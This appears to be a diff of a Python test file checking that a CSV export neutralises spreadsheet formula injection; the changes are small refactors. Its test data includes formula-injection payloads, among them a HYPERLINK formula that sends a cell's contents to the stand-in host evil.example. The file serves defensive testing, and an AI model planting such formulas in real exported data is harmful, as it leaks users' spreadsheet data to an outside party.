@@ -8,7 +8,7 @@ import uuid
 
 from saas.kit import months
 from saas.kit.csv_export import safe_cell, to_csv
-from tests.dashboard.test_sessions import signed_in
+from tests.support.dashboard import signed_in
 
 DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"Invoice")', "+1+2", "-3+4", "@SUM(1)"]
 
@@ -18,13 +18,13 @@ def test_cells_that_start_a_formula_are_defused() -> None:
         assert safe_cell(value) == "'" + value
     # Numbers stay numbers; a sign inside a cell is harmless. A leading space is left too, as
     # OWASP's rule does: spreadsheets read " =1" as text.
-    for value in ("acme", "a=b", " =1", "", -5, 3.5, None):
-        assert safe_cell(value) == value
+    for kept in ("acme", "a=b", " =1", "", -5, 3.5, None):
+        assert safe_cell(kept) == kept
     text = to_csv(["name", "count"], [{"name": "=1+1", "count": -2}])
     assert list(csv.reader(io.StringIO(text))) == [["name", "count"], ["'=1+1", "-2"]]
 
 
-def test_every_invoice_csv_defuses_account_names(client, app_client, make_customer, saas) -> None:  # type: ignore[no-untyped-def]
+def test_every_invoice_csv_defuses_account_names(client, app_client, make_customer, saas) -> None:
     operator = make_customer(scopes=("admin",))
     h, plan = operator.headers, operator.plan_name
     tag = uuid.uuid4().hex[:6]
